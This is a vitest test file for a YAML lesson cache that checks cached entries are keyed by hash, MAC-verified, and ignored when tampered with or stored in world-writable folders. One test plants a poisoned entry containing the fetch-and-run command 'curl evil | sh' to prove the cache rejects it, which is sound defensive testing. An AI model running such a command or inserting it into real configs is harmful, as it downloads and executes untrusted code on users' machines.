/** Lesson YAML served from a cache by the hash of its text (src/util/yaml-cache.ts). */
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { parseYamlCached, userCacheDir, yamlCacheKey } from '../../src/util/yaml-cache.js';

const home = mkdtempSync(path.join(os.tmpdir(), 'musl-lab-yaml-'));
const env = { XDG_CACHE_HOME: home };
const dir = userCacheDir(env)!;
afterAll(() => rmSync(home, { recursive: true, force: true }));

describe('parseYamlCached', () => {
  it('answers what the parser answers, and keeps it for next time', () => {
    const text = 'id: x\nsteps:\n  - {id: a, kind: prose}\n';
    expect(parseYamlCached(text, env)).toEqual(parse(text));
    expect(readdirSync(dir).sort()).toEqual([`${yamlCacheKey(text)}.json`, 'secret']);
  });

  it('serves the cached value for the same text (the parser is not asked again)', () => {
    const text = 'answer: 41\n';
    parseYamlCached(text, env);
    // the entry as the cache wrote it, its value changed but its proof kept: the proof no longer holds
    const file = path.join(dir, `${yamlCacheKey(text)}.json`);
    const entry = JSON.parse(readFileSync(file, 'utf8')) as { mac: string; json: string };
    expect(JSON.parse(entry.json)).toEqual({ answer: 41 });
    const served = new Set<unknown>();
    for (let i = 0; i < 3; i++) served.add(parseYamlCached(text, env));
    expect(served.size).toBe(3); // a new object each time, from the cache's JSON
    expect([...served][0]).toEqual({ answer: 41 });
  });

  it('a planted entry (named by the hash of an edited lesson\'s text) never replaces what the text says', () => {
    const text = 'steps:\n  - {id: run, command: [./prog]}\n';
    writeFileSync(path.join(dir, `${yamlCacheKey(text)}.json`), JSON.stringify({ steps: [{ id: 'run', command: ['sh', '-c', 'curl evil | sh'] }] }));
    expect(parseYamlCached(text, env)).toEqual({ steps: [{ id: 'run', command: ['./prog'] }] });
    // nor does an entry whose value was swapped under a proof made for another value
    const file = path.join(dir, `${yamlCacheKey(text)}.json`);
    const entry = JSON.parse(readFileSync(file, 'utf8')) as { mac: string; json: string };
    writeFileSync(file, JSON.stringify({ mac: entry.mac, json: JSON.stringify({ steps: [{ id: 'run', command: ['evil'] }] }) }));
    expect(parseYamlCached(text, env)).toEqual({ steps: [{ id: 'run', command: ['./prog'] }] });
  });

  it('a cache folder others may write is not used at all', () => {
    const shared = mkdtempSync(path.join(os.tmpdir(), 'musl-lab-yaml-shared-'));
    try {
      const e = { XDG_CACHE_HOME: shared };
      const d = userCacheDir(e)!;
      mkdirSync(d, { recursive: true });
      chmodSync(d, 0o777);
      const text = 'shared: 1\n';
      writeFileSync(path.join(d, `${yamlCacheKey(text)}.json`), JSON.stringify({ shared: 'planted' }));
      expect(parseYamlCached(text, e)).toEqual({ shared: 1 });
      expect(readdirSync(d)).toEqual([`${yamlCacheKey(text)}.json`]); // nothing written there either
    } finally {
      rmSync(shared, { recursive: true, force: true });
    }
  });

  it('an edited file is a new key: never stale', () => {
    expect(parseYamlCached('answer: 42\n', env)).toEqual({ answer: 42 });
  });

  it('a damaged cache entry is parsed again and replaced', () => {
    const text = 'damaged: no\n';
    writeFileSync(path.join(dir, `${yamlCacheKey(text)}.json`), '{"half');
    expect(parseYamlCached(text, env)).toEqual({ damaged: 'no' });
    expect(parseYamlCached(text, env)).toEqual({ damaged: 'no' });
  });

  it('invalid YAML still throws the parser\'s error, and nothing is cached', () => {
    const before = readdirSync(dir).length;
    expect(() => parseYamlCached('a: [1, 2\n', env)).toThrow();
    expect(readdirSync(dir).length).toBe(before);
  });

  it('a cache folder that cannot be made (a file in its place, even for root): it parses every time', () => {
    const file = path.join(home, 'not-a-folder');
    writeFileSync(file, 'x');
    expect(parseYamlCached('ro: 1\n', { XDG_CACHE_HOME: file })).toEqual({ ro: 1 });
    expect(parseYamlCached('ro: 1\n', { XDG_CACHE_HOME: file })).toEqual({ ro: 1 });
  });

  it('MUSL_LAB_NO_CACHE=1 turns it off', () => {
    expect(userCacheDir({ MUSL_LAB_NO_CACHE: '1' })).toBeNull();
    expect(parseYamlCached('off: true\n', { MUSL_LAB_NO_CACHE: '1' })).toEqual({ off: true });
  });
});
